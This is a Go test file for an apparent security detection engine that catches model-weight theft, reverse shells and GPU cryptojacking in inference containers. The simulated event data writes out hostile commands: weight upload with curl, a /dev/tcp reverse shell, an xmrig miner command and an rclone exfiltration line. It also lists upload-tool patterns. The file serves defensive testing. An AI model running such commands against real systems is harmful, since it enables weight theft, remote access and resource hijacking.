package detect

import (
	"math"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/kestrel-sec/kestrel/internal/config"
	"github.com/kestrel-sec/kestrel/internal/detect/model"
	"github.com/kestrel-sec/kestrel/internal/event"
)

// harnessAlloc is gpu.static_alloc of the scenario harness (docs/testing.md).
func harnessAlloc(cg string) ([]int, bool) {
	switch {
	case strings.HasPrefix(cg, "/simctr-infer-"):
		return []int{0}, true
	case regexp.MustCompile(`^/simctr-(sidecar|nogpu|build|agent)-`).MatchString(cg):
		return []int{}, true
	}
	return nil, false
}

// newAIEngine is the harness engine with the static GPU allocation and a
// registry that does not hash (unless reg is given).
func newAIEngine(t testing.TB, reg *model.Registry, mod func(*config.DetectConfig)) *Engine {
	t.Helper()
	c := harnessConfig()
	if mod != nil {
		mod(&c)
	}
	if reg == nil {
		var err error
		if reg, err = model.NewRegistry(&model.RegistryOptions{NoHash: true}); err != nil {
			t.Fatal(err)
		}
	}
	e, err := New(c, &Options{HostNS: hostNS, AI: &AIOptions{Registry: reg, StaticAlloc: harnessAlloc, Node: "node-a"}})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	return e
}

// gpuStop is a gpu stop event of b at t0+d.
func gpuStop(b pb, c *event.Container, d time.Duration) *event.Event {
	ev := gpuStart(b, c, 0, "GPU-0")
	ev.GPU.Change = event.GPUStop
	return at(d, ev)
}

// at sets ev's time to t0+d.
func at(d time.Duration, ev *event.Event) *event.Event { ev.Time = t0.Add(d); return ev }

func forkEv(b pb, c *event.Container) *event.Event {
	return &event.Event{Kind: event.KindFork, Process: b.p, Container: c}
}

func exitEv(b pb, c *event.Container) *event.Event {
	return &event.Event{Kind: event.KindExit, Process: b.p, Container: c, Exit: &event.Exit{}}
}

// findingsOf returns the findings of rule.
func findingsOf(fs []*event.Event, rule string) []*event.Finding {
	var out []*event.Finding
	for _, f := range fs {
		if f.Finding.Rule == rule {
			out = append(out, f.Finding)
		}
	}
	return out
}

// maxBytes returns the largest bytes_sent of the findings and the finding.
func maxBytes(t *testing.T, fs []*event.Finding) (uint64, *event.Finding) {
	t.Helper()
	var best uint64
	var bf *event.Finding
	for _, f := range fs {
		if v, ok := f.Attrs["bytes_sent"]; ok {
			n, err := strconv.ParseUint(v, 10, 64)
			if err != nil {
				t.Fatalf("bytes_sent %q: %v", v, err)
			}
			if n >= best {
				best, bf = n, f
			}
		}
	}
	return best, bf
}

func within10(got, want uint64) bool {
	return math.Abs(float64(got)-float64(want)) <= 0.1*float64(want)
}

// a8 is scenario A8 (docs/testing.md): recon, tar (with its compressor child, which
// opens the archive before tar reads the weights) to /tmp/w.tgz, curl -T.
func a8(sent uint64) []*event.Event {
	c := ctr("simctr-infer-a8")
	sh := proc(100, "/usr/bin/dash", "sh", "-c", "find ...; tar czf /tmp/w.tgz ...; curl -T /tmp/w.tgz ...")
	find := proc(101, "/usr/bin/find", "find", "/tmp/h", "-name", "*.safetensors", "-size", "+1M").anc(an(100, "/usr/bin/dash"))
	tar := proc(102, "/usr/bin/tar", "tar", "czf", "/tmp/w.tgz", "-C", "/tmp/h/models", "llama-3-8b-instruct").anc(an(100, "/usr/bin/dash"))
	gz := proc(103, "/usr/bin/gzip", "gzip").anc(an(102, "/usr/bin/tar"), an(100, "/usr/bin/dash"))
	curl := proc(105, "/usr/bin/curl", "curl", "-s", "-m", "10", "-T", "/tmp/w.tgz", "http://10.200.2.2:9000/upload", "-o", "/dev/null").anc(an(100, "/usr/bin/dash"))
	dir := openEv(tar, c, "/tmp/h/models/llama-3-8b-instruct", "", rd|event.ODirectry, 4)
	return []*event.Event{
		at(0, execEv(sh, c)),
		at(10*time.Millisecond, forkEv(find, c)), at(20*time.Millisecond, execEv(find, c)),
		at(50*time.Millisecond, exitEv(find, c)),
		at(100*time.Millisecond, forkEv(tar, c)), at(110*time.Millisecond, execEv(tar, c)),
		at(120*time.Millisecond, forkEv(gz, c)),
		at(130*time.Millisecond, mopen(gz, c, "/tmp/w.tgz", "", wr, -1, 901)),
		at(140*time.Millisecond, execEv(gz, c)),
		at(150*time.Millisecond, dir),
		at(160*time.Millisecond, mopen(tar, c, llamaFile, "", rd, 8*mib, 11)),
		at(400*time.Millisecond, exitEv(gz, c)),
		at(410*time.Millisecond, exitEv(tar, c)),
		at(500*time.Millisecond, forkEv(curl, c)), at(510*time.Millisecond, execEv(curl, c)),
		at(520*time.Millisecond, mopen(curl, c, "/tmp/w.tgz", "", rd, int64(sent), 901)),
		at(530*time.Millisecond, cookieConn(curl, c, "10.200.2.2", 9000, event.ClassExternal, 77)),
		at(1530*time.Millisecond, egressEv(curl, c, "10.200.2.2", 9000, event.ClassExternal, 77, sent/3, false)),
		at(2100*time.Millisecond, egressEv(curl, c, "10.200.2.2", 9000, event.ClassExternal, 77, sent, true)),
		at(2200*time.Millisecond, exitEv(curl, c)),
	}
}

// a9 is scenario A9 (docs/testing.md): python copies an HF snapshot (raw .safetensors,
// resolved blobs/<sha>) to /dev/shm, then sends it over a raw socket.
func a9(sent uint64) []*event.Event {
	c := ctr("simctr-infer-a9")
	py := proc(300, "/usr/bin/python3.11", "python3", "-", hfSnap)
	return []*event.Event{
		at(0, execEv(py, c)),
		at(10*time.Millisecond, mopen(py, c, hfBlob, hfSnap, rd, 8*mib, 31)),
		at(20*time.Millisecond, mopen(py, c, "/dev/shm/.nv-cache", "", wr, -1, 32)),
		at(300*time.Millisecond, cookieConn(py, c, "10.200.2.2", 443, event.ClassExternal, 88)),
		at(310*time.Millisecond, mopen(py, c, "/dev/shm/.nv-cache", "", rd, 8*mib, 32)),
		at(900*time.Millisecond, egressEv(py, c, "10.200.2.2", 443, event.ClassExternal, 88, sent, true)),
		at(950*time.Millisecond, exitEv(py, c)),
	}
}

func TestEXF001ToolBasedA8(t *testing.T) {
	const sent = 8_390_000
	e := newAIEngine(t, nil, nil)
	out := run(e, a8(sent)...)
	fired := rulesFired(out)
	for _, id := range []string{"EXF-001", "EXF-002", "EXF-003", "EXF-004", "EXF-006"} {
		if fired[id] == nil {
			t.Errorf("%s did not fire; fired:\n%s", id, firedList(out))
		}
	}
	exf := findingsOf(out, "EXF-001")
	if fired["EXF-001"] == nil || fired["EXF-001"].Severity != event.SevCritical {
		t.Fatalf("EXF-001 not critical:\n%s", firedList(out))
	}
	got, f := maxBytes(t, exf)
	if !within10(got, sent) {
		t.Errorf("EXF-001 bytes_sent = %d; want %d within 10%%", got, sent)
	}
	want := map[string]string{"destination": "10.200.2.2:9000", "class": "external", "reader_exe": "/usr/bin/tar",
		"reader_pid": "102", "sender_exe": "/usr/bin/curl", "sender_pid": "105", "container": "simctr-infer-a8"}
	for k, v := range want {
		if f.Attrs[k] != v {
			t.Errorf("EXF-001 %s = %q; want %q", k, f.Attrs[k], v)
		}
	}
	if !strings.Contains(f.Attrs["model_files"], llamaFile+" (8388608 bytes") {
		t.Errorf("model_files = %q; want the llama file with its size", f.Attrs["model_files"])
	}
	if !strings.Contains(f.Explanation, "tar (pid 102) read model weights") || !strings.Contains(f.Explanation, "curl (pid 105)") {
		t.Errorf("explanation does not name reader and sender: %s", f.Explanation)
	}
	if got, _ := maxBytes(t, findingsOf(out, "EXF-003")); !within10(got, sent) {
		t.Errorf("EXF-003 bytes_sent = %d; want %d within 10%%", got, sent)
	}
}

func TestEXF001ToolLessA9(t *testing.T) {
	const sent = 8 * mib
	e := newAIEngine(t, nil, nil)
	out := run(e, a9(sent)...)
	fired := rulesFired(out)
	for _, id := range []string{"EXF-001", "EXF-003", "EXF-004"} {
		if fired[id] == nil {
			t.Errorf("%s did not fire; fired:\n%s", id, firedList(out))
		}
	}
	if fired["EXF-002"] != nil {
		t.Errorf("EXF-002 fired without a transfer tool: %s", fired["EXF-002"].Explanation)
	}
	if f := fired["EXF-001"]; f == nil || f.Severity != event.SevCritical {
		t.Fatalf("EXF-001 not critical:\n%s", firedList(out))
	}
	got, f := maxBytes(t, findingsOf(out, "EXF-001"))
	if !within10(got, sent) || f.Attrs["destination"] != "10.200.2.2:443" || f.Attrs["class"] != "external" {
		t.Errorf("EXF-001 bytes %d to %s (%s); want %d to 10.200.2.2:443 (external)", got, f.Attrs["destination"], f.Attrs["class"], uint64(sent))
	}
	// The finding names the raw (snapshot) and the resolved (blob) path.
	if !strings.Contains(f.Attrs["model_files"], hfSnap+" -> "+hfBlob) {
		t.Errorf("model_files = %q; want snapshot -> blob", f.Attrs["model_files"])
	}
}

func TestEXF001Severity(t *testing.T) {
	// The connect is low (no bytes yet), model-scale bytes (10 % of the
	// tainted file, at most 1 MiB) are high, critical once the socket
	// crosses min(64 MiB, 50 % of the tainted file), then a final figure at
	// close.
	e := newAIEngine(t, nil, nil)
	c := ctr("simctr-infer-sev")
	py := proc(310, "/usr/bin/python3")
	out := run(e,
		at(0, mopen(py, c, llamaFile, "", rd, 8*mib, 11)),
		at(time.Millisecond, mopen(py, c, "/tmp/stage", "", wr, -1, 12)),
		at(2*time.Millisecond, cookieConn(py, c, "10.200.2.2", 80, event.ClassExternal, 5)),
		at(time.Second, egressEv(py, c, "10.200.2.2", 80, event.ClassExternal, 5, 1*mib, false)),
		at(2*time.Second, egressEv(py, c, "10.200.2.2", 80, event.ClassExternal, 5, 5*mib, false)),
		at(3*time.Second, egressEv(py, c, "10.200.2.2", 80, event.ClassExternal, 5, 9*mib, true)),
	)
	var stages []string
	for _, f := range findingsOf(out, "EXF-001") {
		stages = append(stages, f.Attrs["stage"]+"/"+f.Severity.String()+"/"+f.Attrs["bytes_sent"])
	}
	want := []string{"low/low/0", "high/high/1048576", "critical/critical/5242880", "final/critical/9437184"}
	if strings.Join(stages, " ") != strings.Join(want, " ") {
		t.Errorf("EXF-001 stages = %v; want %v", stages, want)
	}
}

func TestEXF001PromoteGrace(t *testing.T) {
	c := ctr("simctr-infer-pg")
	py := proc(320, "/usr/bin/python3")
	base := func() []*event.Event {
		return []*event.Event{
			at(0, execEv(py, c)),
			at(time.Second, mopen(py, c, llamaFile, "", rd, 8*mib, 11)),
			at(2*time.Second, cookieConn(py, c, "10.200.2.2", 443, event.ClassExternal, 6)),
			at(3*time.Second, egressEv(py, c, "10.200.2.2", 443, event.ClassExternal, 6, 8*mib, true)),
		}
	}
	t.Run("reader sends without staging: fires when the grace ends", func(t *testing.T) {
		e := newAIEngine(t, nil, nil)
		var out []*event.Event
		sink := func(f *event.Event) { out = append(out, f) }
		for _, ev := range base() {
			e.Process(ev, sink)
		}
		if len(findingsOf(out, "EXF-001")) != 0 {
			t.Fatalf("EXF-001 fired inside promote_grace:\n%s", firedList(out))
		}
		e.Flush(t0.Add(30*time.Second), sink)
		if len(findingsOf(out, "EXF-001")) != 0 {
			t.Fatalf("EXF-001 fired inside promote_grace:\n%s", firedList(out))
		}
		e.Flush(t0.Add(62*time.Second), sink)
		fs := findingsOf(out, "EXF-001")
		if len(fs) != 1 || fs[0].Severity != event.SevCritical || fs[0].Attrs["bytes_sent"] != itoa(8*mib) {
			t.Fatalf("after the grace: %d EXF-001 findings; want one critical with 8 MiB:\n%s", len(fs), firedList(out))
		}
	})
	t.Run("reader becomes a GPU owner: a loader, silent", func(t *testing.T) {
		e := newAIEngine(t, nil, nil)
		evs := append(base(), at(5*time.Second, gpuStart(py, c, 0, "GPU-0")))
		out := run(e, evs...)
		if fs := findingsOf(out, "EXF-001"); len(fs) != 0 {
			t.Fatalf("EXF-001 fired for a loader:\n%s", firedList(out))
		}
	})
	t.Run("reader exits without owning a GPU: confirmed at once", func(t *testing.T) {
		e := newAIEngine(t, nil, nil)
		var out []*event.Event
		sink := func(f *event.Event) { out = append(out, f) }
		for _, ev := range append(base(), at(4*time.Second, exitEv(py, c))) {
			e.Process(ev, sink)
		}
		if len(findingsOf(out, "EXF-001")) == 0 {
			t.Fatalf("EXF-001 did not fire after the reader exited:\n%s", firedList(out))
		}
	})
}

func TestEXF001PipelinePeer(t *testing.T) {
	// tar c … | curl -T -: curl is forked before tar reads the weights.
	e := newAIEngine(t, nil, nil)
	c := ctr("simctr-infer-pipe")
	sh := proc(330, "/usr/bin/dash", "sh")
	tar := proc(331, "/usr/bin/tar", "tar", "cf", "-", "/tmp/h/models").anc(an(330, "/usr/bin/dash"))
	curl := proc(332, "/usr/bin/curl", "curl", "-T", "-", "http://10.200.2.2:80/").anc(an(330, "/usr/bin/dash"))
	out := run(e,
		at(0, execEv(sh, c)),
		at(time.Millisecond, forkEv(tar, c)), at(2*time.Millisecond, forkEv(curl, c)),
		at(3*time.Millisecond, execEv(tar, c)), at(4*time.Millisecond, execEv(curl, c)),
		at(5*time.Millisecond, mopen(tar, c, llamaFile, "", rd, 8*mib, 11)),
		at(6*time.Millisecond, cookieConn(curl, c, "10.200.2.2", 80, event.ClassExternal, 7)),
		at(time.Second, egressEv(curl, c, "10.200.2.2", 80, event.ClassExternal, 7, 8*mib+4096, true)),
		at(1100*time.Millisecond, exitEv(tar, c)),
	)
	fs := findingsOf(out, "EXF-001")
	if len(fs) == 0 {
		t.Fatalf("EXF-001 did not fire for the pipeline:\n%s", firedList(out))
	}
	got, f := maxBytes(t, fs)
	if got != 8*mib+4096 || f.Attrs["taint_via"] != viaPipeline || f.Attrs["reader_pid"] != "331" || f.Attrs["sender_pid"] != "332" {
		t.Errorf("finding %v; want pipeline taint from tar 331 to curl 332 with %d bytes", f.Attrs, 8*mib+4096)
	}
}

func TestEXF001Benign(t *testing.T) {
	infer := ctr("simctr-infer-b1")
	build := ctr("simctr-build-b1")
	model2 := "/tmp/h/models/llama-3-8b-instruct/model-00002-of-00002.safetensors"
	srv := proc(610, "/usr/bin/python3.11", "python3", "/tmp/h/fake_infer.py", "--port", "8000").anc(an(609, "/usr/bin/timeout"))
	curl := proc(600, "/usr/bin/curl", "curl", "-s", "-o", model2, "http://10.200.1.1:8080/llama-3-8b-instruct/model-00001-of-00001.safetensors")
	hostCp := proc(590, "/usr/bin/cp", "cp", llamaFile, "/tmp/h/registry/llama-3-8b-instruct/").ns(hostNS).caps(0)
	registry := proc(591, "/usr/bin/python3", "python3", "-m", "http.server", "8080").ns(hostNS).caps(0)
	download := []*event.Event{
		at(0, execEv(hostCp, nil)),
		at(time.Millisecond, mopen(hostCp, nil, llamaFile, "", rd, 8*mib, 11)),
		at(2*time.Millisecond, mopen(hostCp, nil, "/tmp/h/registry/llama-3-8b-instruct/model-00001-of-00001.safetensors", "", wr, -1, 21)),
		at(3*time.Millisecond, exitEv(hostCp, nil)),
		at(10*time.Millisecond, execEv(registry, nil)),
		at(2*time.Second, execEv(curl, build)),
		at(2100*time.Millisecond, cookieConn(curl, build, "10.200.1.1", 8080, event.ClassNode, 40)),
		at(2200*time.Millisecond, mopen(registry, nil, "/tmp/h/registry/llama-3-8b-instruct/model-00001-of-00001.safetensors", "", rd, 8*mib, 21)),
		at(2300*time.Millisecond, mopen(curl, build, model2, "", wr, -1, 12)),
		at(2400*time.Millisecond, egressEv(curl, build, "10.200.1.1", 8080, event.ClassNode, 40, 200, true)),
		at(2500*time.Millisecond, exitEv(curl, build)),
	}
	loads := func(d time.Duration) []*event.Event {
		return []*event.Event{
			at(d, mopen(srv, infer, llamaFile, "", rd, 8*mib, 11)),
			at(d+time.Millisecond, mopen(srv, infer, model2, "", rd, 8*mib, 12)),
			at(d+2*time.Millisecond, mopen(srv, infer, hfBlob, hfSnap, rd, 8*mib, 31)),
		}
	}
	owner := func(d time.Duration) *event.Event { return at(d, gpuStart(srv, infer, 0, "GPU-0")) }
	cases := []struct {
		name string
		evs  []*event.Event
	}{
		{"B1 with --wait-file: owner first, then weights", append(append(append(download, at(5*time.Second, execEv(srv, infer))),
			owner(7*time.Second)), loads(8*time.Second)...)},
		{"B1 without --wait-file: weights before NVML lists the server", append(append(append(download,
			at(5*time.Second, execEv(srv, infer))), loads(6*time.Second)...), owner(7*time.Second))},
		{"model reload by the owner", append(append([]*event.Event{at(5*time.Second, execEv(srv, infer)), owner(6 * time.Second)},
			loads(7*time.Second)...), loads(15*time.Minute)...)},
		{"model reload after the owner freed its GPU memory", append(append(append([]*event.Event{
			at(5*time.Second, execEv(srv, infer)), owner(6 * time.Second)}, loads(7*time.Second)...),
			gpuStop(srv, infer, 10*time.Minute)), append(loads(11*time.Minute),
			at(12*time.Minute, cookieConn(srv, infer, "10.200.2.2", 443, event.ClassExternal, 43)))...)},
		{"tainted reader sends to an allowlisted destination", []*event.Event{
			at(0, mopen(proc(620, "/bin/cat"), infer, llamaFile, "", rd, 8*mib, 11)),
			at(time.Millisecond, exitEv(proc(620, "/bin/cat"), infer)),
			at(2*time.Millisecond, cookieConn(proc(621, "/usr/bin/curl"), infer, "10.200.1.5", 9000, event.ClassPod, 41)),
			at(time.Second, egressEv(proc(621, "/usr/bin/curl"), infer, "10.200.1.5", 9000, event.ClassPod, 41, 9*mib, true)),
		}},
		{"taint expires after exfil_window", []*event.Event{
			at(0, mopen(proc(630, "/bin/cat"), infer, llamaFile, "", rd, 8*mib, 11)),
			at(time.Millisecond, exitEv(proc(630, "/bin/cat"), infer)),
			at(3*time.Minute, cookieConn(proc(631, "/usr/bin/curl"), infer, "10.200.2.2", 443, event.ClassExternal, 42)),
		}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			e := newAIEngine(t, nil, nil)
			var out []*event.Event
			sink := func(f *event.Event) { out = append(out, f) }
			for _, ev := range tc.evs {
				e.Process(ev, sink)
			}
			e.Flush(t0.Add(time.Hour), sink)
			for _, f := range out {
				if f.Finding.Severity > event.SevLow {
					t.Errorf("%s %s: %s", f.Finding.Rule, f.Finding.Severity, f.Finding.Explanation)
				}
			}
		})
	}
}

func TestA10NoEXF001(t *testing.T) {
	e := newAIEngine(t, nil, nil)
	side := ctr("simctr-sidecar-a10")
	infer := ctr("simctr-infer-a10")
	planter := proc(700, "/usr/bin/python3", "python3", "-", "/tmp/h/models/evil-ckpt/pytorch_model.bin")
	srv := proc(710, "/usr/bin/python3.11", "python3", "/tmp/h/fake_infer.py", "--pickle", "/tmp/h/models/evil-ckpt/pytorch_model.bin")
	sh := proc(711, "/usr/bin/dash", "sh", "-c", "bash -c 'timeout 8 bash -i >& /dev/tcp/10.200.2.2/4444 0>&1' &").anc(an(710, "/usr/bin/python3.11"))
	bash := proc(712, "/usr/bin/bash", "bash", "-c", "timeout 8 bash -i >& /dev/tcp/10.200.2.2/4444 0>&1").anc(an(711, "/usr/bin/dash"), an(710, "/usr/bin/python3.11"))
	out := run(e,
		at(0, execEv(planter, side)),
		at(time.Millisecond, mopen(planter, side, "/tmp/h/models/evil-ckpt/pytorch_model.bin", "", wr, -1, 50)),
		at(time.Second, execEv(srv, infer)),
		at(3*time.Second, gpuStart(srv, infer, 0, "GPU-0")),
		at(3100*time.Millisecond, mopen(srv, infer, llamaFile, "", rd, 8*mib, 11)),
		at(3200*time.Millisecond, mopen(srv, infer, "/tmp/h/models/evil-ckpt/pytorch_model.bin", "", rd, 60, 50)),
		at(3300*time.Millisecond, forkEv(sh, infer)), at(3310*time.Millisecond, execEv(sh, infer)),
		at(3320*time.Millisecond, forkEv(bash, infer)), at(3330*time.Millisecond, execEv(bash, infer)),
		at(3340*time.Millisecond, connEv(bash, infer, "10.200.2.2", 4444, event.ClassExternal)),
	)
	fired := rulesFired(out)
	for _, id := range []string{"GPU-005", "GPU-001", "GPU-006", "C2-001"} {
		if fired[id] == nil {
			t.Errorf("%s did not fire:\n%s", id, firedList(out))
		}
	}
	if f := fired["GPU-001"]; f != nil && f.Severity != event.SevCritical {
		t.Errorf("GPU-001 severity %s; want critical", f.Severity)
	}
	for _, id := range []string{"EXF-001", "EXE-003"} {
		if fired[id] != nil {
			t.Errorf("%s fired: %s", id, fired[id].Explanation)
		}
	}
}

func TestA11Cryptojacking(t *testing.T) {
	e := newAIEngine(t, nil, nil)
	c := ctr("simctr-nogpu-a11")
	sh := proc(800, "/usr/bin/dash", "sh", "-c", "...")
	smi := proc(801, "/tmp/h/bin/nvidia-smi", "/tmp/h/bin/nvidia-smi", "--gpu-reset", "-i", "0").anc(an(800, "/usr/bin/dash"))
	x := proc(802, "/tmp/xmrig", "/tmp/xmrig", "10.200.2.2", "hold", "--url", "stratum+tcp://10.200.2.2:3333", "--donate-level", "1").anc(an(800, "/usr/bin/dash"))
	out := run(e,
		at(0, execEv(sh, c)),
		at(time.Millisecond, sysEv(sh, c, event.Syscall{Name: "mknod", Path: "/dev/nvidiactl"})),
		at(10*time.Millisecond, execEv(smi, c)),
		at(20*time.Millisecond, mopen(sh, c, "/tmp/xmrig", "", wr, -1, 70)),
		at(30*time.Millisecond, execEv(x, c)),
		at(40*time.Millisecond, openEv(x, c, "/dev/nvidiactl", "", rdw, 3)),
		at(41*time.Millisecond, openEv(x, c, "/dev/nvidia-uvm", "", rdw, 3)),
		at(42*time.Millisecond, openEv(x, c, "/dev/nvidia0", "", rdw, 3)),
		at(50*time.Millisecond, connEv(x, c, "10.200.2.2", 3333, event.ClassExternal)),
		at(2*time.Second, gpuStart(x, c, 0, "GPU-0")),
	)
	fired := rulesFired(out)
	want := map[string]event.Severity{"GPU-008": event.SevCritical, "GPU-002": event.SevCritical,
		"GPU-003": event.SevHigh, "GPU-007": event.SevHigh, "EXE-002": event.SevHigh}
	for id, sev := range want {
		if f := fired[id]; f == nil || f.Severity != sev {
			t.Errorf("%s: got %v; want %s\n%s", id, f, sev, firedList(out))
		}
	}
	if f := fired["GPU-002"]; f != nil && !strings.Contains(f.Attrs["conditions"], "given no GPU (static_alloc)") {
		t.Errorf("GPU-002 conditions = %q", f.Attrs["conditions"])
	}
}

func TestEXF001TransferToolByTaintedProcess(t *testing.T) {
	e := newAIEngine(t, nil, nil)
	c := ctr("simctr-infer-tool")
	sh := proc(340, "/usr/bin/dash", "sh", "-c", "cp ...; exec rclone copy /tmp/x evil:b")
	out := run(e,
		at(0, execEv(sh, c)),
		at(time.Millisecond, mopen(sh, c, llamaFile, "", rd, 8*mib, 11)),
		at(2*time.Millisecond, mopen(sh, c, "/tmp/x", "", wr, -1, 12)),
		at(3*time.Millisecond, execEv(proc(340, "/usr/bin/rclone", "rclone", "copy", "/tmp/x", "evil:b"), c)),
	)
	var tool *event.Finding
	for _, f := range findingsOf(out, "EXF-001") {
		if f.Attrs["condition"] == "transfer_tool" {
			tool = f
		}
	}
	if tool == nil || tool.Severity != event.SevHigh || tool.Attrs["tool"] != "rclone" {
		t.Fatalf("no high EXF-001 transfer_tool finding for rclone:\n%s", firedList(out))
	}
	if f := rulesFired(out)["EXF-002"]; f == nil || f.Severity != event.SevCritical {
		t.Errorf("EXF-002 by a tainted process should be critical: %v", f)
	}
}

func TestModelUpdaterGlobs(t *testing.T) {
	e := newAIEngine(t, nil, nil)
	build := ctr("simctr-build-x")
	cases := []struct {
		p    pb
		c    *event.Container
		want bool
	}{
		{proc(1, "/usr/bin/curl", "curl", "-s", "-o", "/m/x.safetensors"), build, true},
		{proc(2, "/usr/bin/wget", "wget", "-O", "/m/x.safetensors"), build, false},
		{proc(3, "/usr/bin/curl", "curl"), ctr("simctr-infer-x"), false},
		{proc(4, "/usr/bin/python3.11", "python3", "/tmp/ebpfh.Q1/mkmodel.py", "/tmp/h/models/a.safetensors", "8"), nil, true},
		{proc(5, "/usr/bin/python3.11", "python3", "/tmp/other.py"), nil, false},
		// Identity is the exe the kernel ran, not the name it was given.
		{proc(6, "/tmp/evil", "curl", "-s", "-o", "/m/x.safetensors"), build, false},
		{proc(7, "/usr/bin/dash", "curl", "-c", "cp /tmp/x /m/x.safetensors"), build, false},
		{proc(8, "/tmp/curl", "curl", "-o", "/m/x.safetensors"), build, false},
		{proc(9, "/usr/local/bin/curl", "curl", "-o", "/m/x.safetensors"), build, false}, // written below
		// On the host, interpreters live outside /usr/bin too; scratch space is not the host's own.
		{proc(11, "/root/.pyenv/versions/3.11.7/bin/python3.11", "python3", "/tmp/ebpfh.Q1/mkmodel.py", "/m/a", "8"), nil, true},
		{proc(12, "/tmp/python3", "python3", "/tmp/ebpfh.Q1/mkmodel.py", "/m/a", "8"), nil, false},
	}
	// The build container dropped its own "curl" over /usr/local/bin/curl.
	run(e, at(0, openEv(proc(10, "/usr/bin/cp", "cp", "/tmp/evil", "/usr/local/bin/curl"), build, "/usr/local/bin/curl", "", wr, 3)))
	for i, tc := range cases {
		if got := e.ai.isModelUpdater(e.state, tc.p.p, tc.c); got != tc.want {
			t.Errorf("case %d (%s): isModelUpdater = %v; want %v", i, cmdline(tc.p.p), got, tc.want)
		}
	}
	for _, g := range []struct {
		pat, s string
		want   bool
	}{
		{"curl", "curl", true}, {"cu?l", "curl", true}, {"*", "", true}, {"a*b*c", "a/x/b/y/c", true},
		{"a*b", "a/x/c", false}, {"python3 */mkmodel.py *", "python3 /a/b/mkmodel.py x 8", true}, {"", "x", false},
	} {
		if got := globMatch(g.pat, g.s); got != g.want {
			t.Errorf("globMatch(%q, %q) = %v; want %v", g.pat, g.s, got, g.want)
		}
	}
}

func TestTransferToolDirection(t *testing.T) {
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"curl", "-T", "/tmp/w.tgz", "http://x/"}, "curl upload"},
		{[]string{"curl", "--data-binary", "@/m/x.safetensors", "http://x/"}, "curl upload"},
		{[]string{"curl", "-Fw=@/m/x", "http://x/"}, "curl upload"},
		{[]string{"curl", "-o", "/m/x", "http://x/"}, ""},
		{[]string{"wget", "--method=PUT", "--body-file=/m/x", "http://x/"}, "wget upload"},
		{[]string{"wget", "http://x/m"}, ""},
		{[]string{"aws", "s3", "cp", "/models/x", "s3://b/x"}, "aws s3 cp"},
		{[]string{"aws", "s3", "sync", "s3://b/x", "/models"}, ""},
		{[]string{"gsutil", "-m", "cp", "-r", "/models", "gs://b/"}, "gsutil cp"},
		{[]string{"gcloud", "storage", "cp", "gs://b/x", "/models/"}, ""},
		{[]string{"huggingface-cli", "upload", "me/m", "/models"}, "huggingface-cli upload"},
		{[]string{"huggingface-cli", "download", "me/m"}, ""},
		{[]string{"git", "push", "origin"}, "git push"},
		{[]string{"git", "lfs", "push", "origin"}, "git push"},
		{[]string{"git", "pull"}, ""},
		{[]string{"rclone", "copy", "remote:b", "/models"}, ""},
		{[]string{"rclone", "copy", "/models", "remote:b"}, "rclone"},
		{[]string{"scp", "/models/x", "u@h:/x"}, "scp"},
		{[]string{"python3", "-m", "http.server", "8000"}, "python http.server"},
		{[]string{"python3", "-m", "pip", "install", "x"}, ""},
		{[]string{"nc", "10.0.0.1", "9"}, "nc"},
	} {
		p := &event.Process{Exe: "/usr/bin/" + tc.args[0], Args: tc.args}
		if got := transferTool(p); got != tc.want {
			t.Errorf("transferTool(%v) = %q; want %q", tc.args, got, tc.want)
		}
	}
}

func TestLateLineage(t *testing.T) {
	// The reverse shell runs before the sampler lists the server (the
	// harness registers the owner and the server loads at once).
	e := newAIEngine(t, nil, nil)
	infer := ctr("simctr-infer-a10")
	srv := proc(710, "/usr/bin/python3.11", "python3", "/tmp/h/fake_infer.py")
	sh := proc(711, "/usr/bin/dash", "sh", "-c", "bash -c 'timeout 8 bash -i >& /dev/tcp/10.200.2.2/4444 0>&1' &").anc(an(710, "/usr/bin/python3.11"))
	bash := proc(712, "/usr/bin/bash", "bash", "-c", "timeout 8 bash -i >& /dev/tcp/10.200.2.2/4444 0>&1").anc(an(711, "/usr/bin/dash"), an(710, "/usr/bin/python3.11"))
	other := proc(720, "/usr/bin/bash", "bash", "-c", "id").anc(an(719, "/usr/bin/python3.11"))
	out := run(e,
		at(0, execEv(srv, infer)),
		at(100*time.Millisecond, execEv(sh, infer)),
		at(110*time.Millisecond, execEv(bash, infer)),
		at(120*time.Millisecond, connEv(bash, infer, "10.200.2.2", 4444, event.ClassExternal)),
		at(130*time.Millisecond, execEv(other, infer)),
		at(400*time.Millisecond, gpuStart(srv, infer, 0, "GPU-0")),
	)
	g1 := findingsOf(out, "GPU-001")
	g6 := findingsOf(out, "GPU-006")
	if len(g1) == 0 || len(g6) != 1 {
		t.Fatalf("GPU-001 %d, GPU-006 %d findings; want both late:\n%s", len(g1), len(g6), firedList(out))
	}
	for _, f := range append(g1, g6...) {
		if f.Attrs["late_lineage"] != "true" || f.Severity != event.SevCritical {
			t.Errorf("%s: late_lineage %q severity %s; want true, critical", f.Rule, f.Attrs["late_lineage"], f.Severity)
		}
		if strings.Contains(f.Explanation, "pid 720") {
			t.Errorf("a process outside the owner's lineage was judged: %s", f.Explanation)
		}
	}
	// A shim (pyenv, conda) that is the same pid before it execs the
	// server: its own exec and its helpers' are not the server's children.
	e = newAIEngine(t, nil, nil)
	shim := proc(730, "/usr/bin/bash", "bash", "/root/.pyenv/shims/python3", "fake_infer.py")
	helper := proc(731, "/usr/bin/bash", "bash", "/root/.pyenv/libexec/pyenv-hooks", "exec").anc(an(730, "/usr/bin/bash"))
	server := proc(730, "/usr/bin/python3.11", "python3.11", "fake_infer.py")
	out = run(e,
		at(0, execEv(shim, infer)),
		at(10*time.Millisecond, execEv(helper, infer)),
		at(50*time.Millisecond, execEv(server, infer)),
		at(400*time.Millisecond, gpuStart(server, infer, 0, "GPU-0")),
	)
	if fs := findingsOf(out, "GPU-001"); len(fs) != 0 {
		t.Errorf("GPU-001 fired for the shim before the server's exec:\n%s", firedList(out))
	}
	// Too late: beyond lateWindow the old events are not judged again.
	e = newAIEngine(t, nil, nil)
	out = run(e, at(0, execEv(sh, infer)), at(time.Minute, gpuStart(srv, infer, 0, "GPU-0")))
	if len(findingsOf(out, "GPU-001")) != 0 {
		t.Errorf("GPU-001 fired for a child a minute before the owner was listed:\n%s", firedList(out))
	}
}
